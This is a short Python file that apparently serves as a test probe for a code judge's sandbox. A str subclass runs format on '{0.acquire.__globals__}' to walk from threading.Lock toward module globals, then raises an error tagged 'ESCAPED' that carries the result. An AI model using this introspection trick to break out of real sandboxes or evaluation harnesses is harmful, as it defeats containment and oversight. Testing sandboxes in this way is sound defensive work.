"""Has a text of its own class walk to the judge's modules.  gate: accept"""

import threading


class Text(str):
    def walk(self, *args):
        return super().format(*args)


def attempt():
    raise SystemError("ESCAPED " + Text("{0.acquire.__globals__}").walk(threading.Lock))
